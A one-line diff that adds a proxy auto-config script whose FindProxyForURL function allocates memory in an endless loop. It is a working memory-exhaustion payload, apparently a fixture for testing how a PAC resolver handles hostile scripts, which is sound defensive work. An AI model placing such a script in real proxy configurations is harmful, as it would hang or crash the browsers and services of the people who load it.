@@ -1,0 +1,1 @@
+var a = []; function FindProxyForURL(u, h) { for (;;) a.push(new Array(1e6).join('x')); }
